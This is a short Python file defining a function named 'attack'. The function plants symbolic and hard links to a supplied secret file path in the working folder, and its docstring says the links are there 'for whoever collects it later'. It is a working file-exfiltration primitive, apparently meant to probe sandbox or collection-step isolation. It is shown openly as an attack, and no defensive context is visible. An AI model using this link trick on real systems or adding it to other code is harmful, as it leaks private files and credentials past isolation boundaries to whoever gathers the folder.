"""Puts symbolic and hard links to the machine's files into its folder, for whoever collects it later."""

import os


def attack(given):
    done = []
    for make in (os.symlink, os.link):
        try:
            make(given["secret"], "link-" + make.__name__)
            done.append(make.__name__)
        except OSError:
            continue
    return ", ".join(done) or None
